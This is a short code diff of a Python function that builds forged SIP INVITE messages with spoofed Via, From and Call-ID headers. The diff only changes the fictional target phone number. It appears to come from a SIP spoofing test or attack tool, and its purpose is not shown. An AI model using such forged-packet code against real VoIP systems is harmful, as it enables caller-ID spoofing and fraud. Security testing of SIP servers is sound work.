@@ -26,10 +26,10 @@ def forged_invite(n: int, port: int, lport: int, via_host: str) -> bytes:
     body = SDP.format(host=HOST, rtp=21000 + 2 * n)
     tag = f"{os.getpid()}-{n}"
     return (
-        f"INVITE sip:+15550001111@{HOST}:{port} SIP/2.0\r\n"
+        f"INVITE sip:+15550002468@{HOST}:{port} SIP/2.0\r\n"
         f"Via: SIP/2.0/UDP {via_host}:5060;rport;branch=z9hG4bK-spoof{tag}\r\n"
         f"From: <sip:+15559990000@{via_host}>;tag=s{tag}\r\n"
-        f"To: <sip:+15550001111@{HOST}:{port}>\r\n"
+        f"To: <sip:+15550002468@{HOST}:{port}>\r\n"
         f"Call-ID: spoof{tag}@{via_host}\r\nCSeq: 1 INVITE\r\nMax-Forwards: 70\r\n"
         f"Contact: <sip:caller@{via_host}:5060>\r\nContent-Type: application/sdp\r\n"
         f"Content-Length: {len(body)}\r\n\r\n{body}"
